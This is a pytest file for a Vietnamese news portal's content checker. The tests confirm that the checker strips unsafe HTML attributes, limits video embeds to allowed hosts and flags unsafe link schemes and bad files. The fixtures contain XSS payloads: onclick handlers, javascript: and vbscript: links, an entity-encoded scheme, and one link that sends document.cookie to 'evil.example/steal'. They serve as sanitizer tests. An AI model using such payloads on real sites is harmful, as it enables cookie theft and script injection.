"""Messages that lead an editor to the fix: what `binhdan check` says about raw HTML, odd
addresses, empty files and officers' spreadsheets names the real cause, quotes the value whole,
and never reports as removed what is published as it was written."""

from __future__ import annotations

from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from openpyxl import Workbook
from PIL import Image
from test_progress import HEADER, add_data

from conftest import Built, build, check, run

WHERE = "content/news/thu.vi.md"
FRONT = "---\ntitle: Thử\ndate: 2026-06-05\nsummary: Thử tin.\n---\n"


def write_news(project: Path, body: str) -> None:
    """A news item whose body starts on line 6 of the file."""
    (project / WHERE).write_text(FRONT + body, encoding="utf-8")


def said_on(out: str, line: int) -> str:
    """Everything reported on one line of the news item (both languages)."""
    blocks = out.split("\n\n")
    return "\n".join(b for b in blocks if f"  {WHERE}:{line}\n" in b + "\n")


def add_picture(project: Path, name: str) -> None:
    Image.new("RGB", (40, 30), "red").save(project / "content/news" / name)


# ---------------------------------------------------------------- attributes --------------

ATTRIBUTES = """<div markdown="1">
**Đậm** trong khối.
</div>

<div markdown>x</div>

<p class="ghi-chu" lang="vi" title="Ghi chú">Được phép.</p>

<b onclick="steal()">bấm</b> <span onmouseover="x()">rê</span>

<p style="color: red">đỏ</p>

Đoạn có kiểu riêng.
{: style="font-size: 40px" }

<table border="1"><tr><td width="50">ô</td></tr></table>

<a href="https://dichvucong.gov.vn" target="_blank">Cổng dịch vụ công</a>

Đoạn có thuộc tính lạ.
{: data-onclick="x" #doan }
"""


def test_removed_attributes_say_what_they_are(project: Path, tmp_path: Path) -> None:
    mkdocs_yml = project / "mkdocs.yml"  # as the example site: <div markdown="1"> works
    mkdocs_yml.write_text(mkdocs_yml.read_text(encoding="utf-8").replace(
        "  - attr_list\n", "  - attr_list\n  - md_in_html\n"), encoding="utf-8")
    write_news(project, ATTRIBUTES)
    result = check(project)
    assert result.code == 0, result.out
    out = result.out
    for line in (6, 10, 12, 26):  # markdown="1", markdown, allowed ones, data-onclick
        assert said_on(out, line) == "", said_on(out, line)
    handlers = said_on(out, 14)
    assert "The attribute 'onclick' on <b> is not allowed and was removed: it is an event " \
           "handler" in handlers
    assert "The attribute 'onmouseover' on <span> is not allowed and was removed: it is an " \
           "event handler" in handlers
    assert "đó là mã lệnh chạy khi người đọc bấm" in handlers
    for line, where in ((16, "<p>"), (19, "{: }")):
        style = said_on(out, line)
        assert f"The 'style' attribute on {where} (its own font, colour or size)" in style
        assert "event handler" not in style and "Thuộc tính 'style' của" in style
    table = said_on(out, 21)
    assert "The attribute 'border' has no use on <table>" in table
    assert "The attribute 'width' has no use on <td> on this site" in table
    assert "<td> may only have: align, class, colspan, dir, id, lang, rowspan, title" in table
    link = said_on(out, 23)
    assert "The attribute 'target' has no use on <a>" in link and "event handler" not in link
    assert out.count("event handler") == 2  # only the two real ones

    built = build(project, tmp_path / "site")
    assert built.result.code == 0, built.result.out
    body = built.html("tin-tuc/thu/").select_one(".portal-body")
    assert body.select_one("div strong").get_text() == "Đậm"  # markdown="1" did its job
    assert body.select_one("p.ghi-chu[lang=vi][title]")
    assert not body.select("[style], [onclick], [onmouseover], [target], [border], [width]")


# ---------------------------------------------------------------- embedded videos ---------

EMBEDS = """<iframe src="//www.youtube.com/embed/a1"></iframe>

<iframe src="https://WWW.YouTube.COM./embed/b2?start=5&amp;rel=0"></iframe>

<iframe src="http://www.youtube-nocookie.com/embed/c3"></iframe>

<iframe src="https://www.youtube.com:443/embed/d4"></iframe>

<iframe src="https://youtube.com/embed/e5"></iframe>

<iframe src="https://evil.example\\@www.youtube.com/embed/f6"></iframe>

<iframe src="https://www.youtube.com:8443/embed/g7"></iframe>

<iframe src="https://ads.example@www.youtube.com/embed/h8"></iframe>

<iframe src="javascript:alert(1)"></iframe>

<iframe src="https://[::1/embed/i9"></iframe>
"""


def test_allowed_video_hosts_are_kept_in_any_spelling(project: Path, tmp_path: Path) -> None:
    write_news(project, EMBEDS)
    result = check(project)
    assert result.code == 0, result.out  # crashed on the unreadable address before
    out = result.out
    for line in (6, 8, 10, 12):
        assert said_on(out, line) == "", said_on(out, line)
    assert "from 'youtube.com' is not on the allowed list of hosts " \
           "(www.youtube-nocookie.com, www.youtube.com)" in said_on(out, 14)
    assert out.count("is not on the allowed list") == 1  # never an allowed host
    for line, value in ((16, "https://evil.example\\@www.youtube.com/embed/f6"),
                        (18, "https://www.youtube.com:8443/embed/g7"),
                        (20, "https://ads.example@www.youtube.com/embed/h8"),
                        (24, "https://[::1/embed/i9")):
        assert f"The address '{value}' is not written the usual way" in said_on(out, line)
    assert "The address 'javascript:alert(1)' uses the unsafe 'javascript:' scheme" \
        in said_on(out, 22)

    built = build(project, tmp_path / "site")
    assert built.result.code == 0, built.result.out
    frames = built.html("tin-tuc/thu/").select(".portal-body iframe")
    assert [frame["src"] for frame in frames] == [  # as checked, and as the CSP allows
        "https://www.youtube.com/embed/a1", "https://www.youtube.com/embed/b2?start=5&rel=0",
        "https://www.youtube-nocookie.com/embed/c3", "https://www.youtube.com/embed/d4"]


# ---------------------------------------------------------------- text, not HTML ----------

TEXT_ONLY = """![Màn hình &lt;Đăng nhập&gt; của VNeID](anh.png)

![Bà & cháu "học" 'VNeID'](anh.png)

![Nút <script> trên màn hình](anh.png)

![Ô <b onclick="x">mật khẩu</b>][hinh]

[Tải kế hoạch](ke-hoach.pdf "Kế hoạch <u onclick=1> năm <style>")

Gõ ``<script src="x"> `lệnh` `` vào ô.

[hinh]: anh.png "Ảnh <iframe src='https://evil.example'>"

Còn đây là mã thật: <script>alert(1)</script>
"""


def test_text_that_only_looks_like_html_is_not_reported(project: Path,
                                                        tmp_path: Path) -> None:
    write_news(project, TEXT_ONLY)
    add_picture(project, "anh.png")
    (project / "content/news/ke-hoach.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    result = check(project)
    assert result.code == 0, result.out
    for line in range(6, 19):
        assert said_on(result.out, line) == "", said_on(result.out, line)
    assert "The HTML tag <script> is not allowed" in said_on(result.out, 20)

    built = build(project, tmp_path / "site")
    assert built.result.code == 0, built.result.out
    body = built.html("tin-tuc/thu/").select_one(".portal-body")
    assert [img["alt"] for img in body.select("img")] == [
        "Màn hình <Đăng nhập> của VNeID", "Bà & cháu \"học\" 'VNeID'",
        "Nút <script> trên màn hình", "Ô <b onclick=\"x\">mật khẩu</b>"]
    assert body.select_one("a[title]")["title"] == "Kế hoạch <u onclick=1> năm <style>"
    assert body.select_one("code").get_text() == '<script src="x"> `lệnh`'
    assert not body.select("script, u, iframe")


# ---------------------------------------------------------------- values with ( ) --------

PARENTHESES = """[Trang Wikipedia](https://vi.wikipedia.org/wiki/Ea_Trang_(xã))

[Bấm vào đây](javascript:alert(document.cookie))

[Tải kế hoạch](ke-hoach(1).pdf "Kế hoạch (bản 2)")

[Tải mẫu](mau-don(2).pdf)

![](anh(3).png)

[Link tham chiếu][r]

[r]: vbscript:msgbox(1)

[Link dài](javascript:void(window.open('https://evil.example/steal?c='+document.cookie)))
"""


def test_values_with_parentheses_are_quoted_whole(project: Path, tmp_path: Path) -> None:
    write_news(project, PARENTHESES)
    (project / "content/news/ke-hoach(1).pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    add_picture(project, "anh(3).png")
    result = check(project)
    out = result.out
    assert said_on(out, 6) == "" and said_on(out, 10) == ""  # found, not cut at ')'
    assert "The address 'javascript:alert(document.cookie)' uses the unsafe 'javascript:'" \
        in said_on(out, 8)
    assert "The link or image 'mau-don(2).pdf' points to 'content/news/mau-don(2).pdf'" \
        in said_on(out, 12)
    assert "The image 'anh(3).png' has no description" in said_on(out, 14)
    assert "The address 'vbscript:msgbox(1)' uses the unsafe 'vbscript:'" in said_on(out, 18)
    assert "The address 'javascript:void(window.open('https://ev…' uses" \
        in said_on(out, 20)  # long values are visibly shortened, never silently cut

    (project / WHERE).write_text((project / WHERE).read_text(encoding="utf-8").replace(
        "[Tải mẫu](mau-don(2).pdf)", "").replace("![](", "![Ảnh]("), encoding="utf-8")
    built = build(project, tmp_path / "site")
    assert built.result.code == 0, built.result.out
    body = built.html("tin-tuc/thu/").select_one(".portal-body")
    assert body.select_one("a[title]")["title"] == "Kế hoạch (bản 2)"
    assert (built.site / "tin-tuc/thu" / body.select_one("a[title]")["href"]).is_file()


def test_an_address_in_angle_brackets_is_not_called_a_tag(project: Path,
                                                          tmp_path: Path) -> None:
    write_news(project, "Gọi <tel:0912345678> hoặc xem <www.dichvucong.gov.vn>.\n\n"
                        "Tự động: <https://dichvucong.gov.vn> và <ubnd@eatrang.gov.vn>.\n\n"
                        "Từ Word: <o:p>chữ</o:p>\n")
    out = check(project).out
    line = said_on(out, 6)
    for value in ("tel:0912345678", "www.dichvucong.gov.vn"):
        assert f"'<{value}>' is an address in angle brackets" in line
    assert "HTML tag" not in line.replace("taken for an HTML tag", "")
    assert said_on(out, 8) == ""  # autolinks
    assert "The HTML tag <o:p> is not used on this site" in said_on(out, 10)
    assert "its text stays" not in out and "the text inside it is kept" in said_on(out, 10)

    news = project / WHERE  # an e-mail autolink breaks the build in markup.py: not this test's
    news.write_text(news.read_text(encoding="utf-8").replace(" và <ubnd@eatrang.gov.vn>", ""),
                    encoding="utf-8")
    built = build(project, tmp_path / "site")
    assert built.result.code == 0, built.result.out
    body = built.html("tin-tuc/thu/").select_one(".portal-body")
    assert "0912345678" not in body.get_text()  # what the warning is about
    assert [a["href"] for a in body.select("a")][:1] == ["https://dichvucong.gov.vn"]


def test_an_entity_written_scheme_is_named_unsafe(project: Path) -> None:
    """`&#106;avascript:` is javascript: to a browser (and to the sanitizer)."""
    write_news(project, "[Bấm](&#106;avascript:alert(1)) và [Gọi](&#x74;el:0912345678)\n")
    out = check(project).out
    assert "The address 'javascript:alert(1)' uses the unsafe 'javascript:' scheme" \
        in said_on(out, 6)
    assert "'tel:'" not in out


# ---------------------------------------------------------------- files ------------------

def test_an_empty_file_is_called_empty_whatever_its_name(project: Path) -> None:
    names = ("ke-hoach.pdf", "bai-giang.docx", "so-lieu.xlsx", "ban-doc.mp3")
    odd = ("README", "du-lieu.xyz")  # no kind the portal publishes: named as such, not empty
    write_news(project, " ".join(f"[tệp]({name})" for name in [*names, *odd, "hong.pdf"])
               + "\n")
    for name in (*names, *odd):
        (project / "content/news" / name).write_bytes(b"")
    (project / "content/news/hong.pdf").write_bytes(b"<html>not a pdf</html>")
    result = check(project)
    assert result.code == 1
    for name in names:
        block = result.out.split(f"LỖI / ERROR  content/news/{name}\n")[1].split("\n\n")[0]
        assert "The file is empty (0 bytes) but is used in: content/news/thu.vi.md" in block
        assert "Tệp trống (0 byte)" in block
    for name in odd:
        block = result.out.split(f"LỖI / ERROR  content/news/{name}\n")[1].split("\n\n")[0]
        assert "cannot be published on the portal" in block
    assert "readable  file" not in result.out and "tệp  đọc" not in result.out
    assert "This file is not a readable PDF file" in result.out  # a damaged one still is
    assert result.out.count("is not a readable") == 1


# ---------------------------------------------------------------- spreadsheets -----------

ROWS = [["buon-mot", "ty-le", "2026-06", "250", "1000", "", "", ""]]


@pytest.mark.parametrize(("delimiter", "named", "bom"), [
    (";", "';'", ""), (";", "';'", "\ufeff"), ("\t", "Tab", "")])
def test_a_csv_with_other_separators_is_named(project: Path, delimiter: str, named: str,
                                              bom: str) -> None:
    add_data(project)
    (project / "data/observations").mkdir()
    lines = [HEADER.strip().split(","), *ROWS]
    (project / "data/observations/thang-6.csv").write_text(
        bom + "\n".join(delimiter.join(cells) for cells in lines) + "\n", encoding="utf-8")
    result = check(project)
    assert result.code == 1
    assert "data/observations/thang-6.csv:1\n" in result.out
    assert f"The file uses {named} between columns instead of commas" in result.out
    assert "Save As → CSV UTF-8 (Comma delimited)" in result.out
    assert f"Tệp dùng {named} giữa các cột thay cho dấu phẩy" in result.out
    assert "Missing columns" not in result.out


def test_merged_cells_are_named(project: Path, tmp_path: Path) -> None:
    add_data(project)
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER.strip().split(","))
    for locality in ("buon-mot", "thon-hai", "ea-trang"):
        sheet.append([locality, "ty-le", "2026-06", 250, 1000])
    sheet.merge_cells("B2:B4")  # "ty-le" written once for three rows
    sheet.merge_cells("C3:D3")
    path = tmp_path / "thang-6.xlsx"
    book.save(path)
    result = run(["binhdan", "import", str(path)], project)
    assert result.code == 1
    where = f"{path} › trang tính/sheet 'Sheet'"
    assert f"{where}:2\n" in result.out and f"{where}:3\n" in result.out
    assert "The cells B2:B4 are merged, so only the first one holds a value" in result.out
    assert "Các ô C3:D3 đang được gộp (Merge)" in result.out
    assert "''" not in result.out

    (project / "data/observations").mkdir(exist_ok=True)
    (project / "data/observations/thang-6.csv").write_text(
        HEADER + "buon-mot,ty-le,2026-06,250,1000,,,\nthon-hai,,,250,1000,,,\n",
        encoding="utf-8")  # what a sheet with merged cells exports
    result = check(project)
    assert result.code == 1
    for column in ("indicator", "period"):
        assert f"data/observations/thang-6.csv:3 [{column}]" in result.out
        assert f"Column '{column}' is empty on this row" in result.out
    assert "''" not in result.out


# ---------------------------------------------------------------- the embed snippet -----

def test_the_embed_snippet_escapes_its_attributes(project: Path, tmp_path: Path) -> None:
    site_yml = project / "data/site.yml"
    site_yml.write_text(site_yml.read_text(encoding="utf-8").replace(
        "  vi: Bình dân học vụ số\n", "  vi: 'Bình dân \"học\" <vụ> & số'\n", 1),
        encoding="utf-8")
    # (an address with '&' or quotes is refused before any page is written: values.py)
    built: Built = build(project, tmp_path / "site")
    assert built.result.code == 0, built.result.out
    shown = built.html("nguon-tin/").select_one("#feeds-portals ~ pre code").get_text()
    copied = BeautifulSoup(shown, "html.parser")  # what a portal's editor pastes
    frame = copied.select_one("iframe")
    assert [tag.name for tag in copied.find_all()] == ["iframe"]
    assert frame.attrs == {
        "src": "https://eatrang.example.gov.vn/tien-ich/",
        "title": "Tin mới và số liệu – Bình dân \"học\" <vụ> & số",
        "width": "100%", "height": "480", "loading": "lazy"}
